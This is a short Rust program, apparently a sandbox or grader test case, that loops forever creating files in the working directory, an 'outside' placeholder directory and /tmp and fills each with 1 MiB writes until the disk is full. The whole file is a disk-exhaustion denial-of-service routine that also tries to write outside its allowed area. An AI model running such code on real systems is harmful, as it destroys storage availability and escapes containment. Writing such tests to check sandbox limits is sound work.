//! Files without end, wherever it can.
//! Row: Not graded
use std::io::Write;

fn main() {
    for number in 0.. {
        for folder in [".", "{outside}", "/tmp"] {
            if let Ok(mut file) = std::fs::File::create(format!("{folder}/rivulets-{number}-full")) {
                while file.write_all(&[1; 1 << 20]).is_ok() {}
            }
        }
    }
}
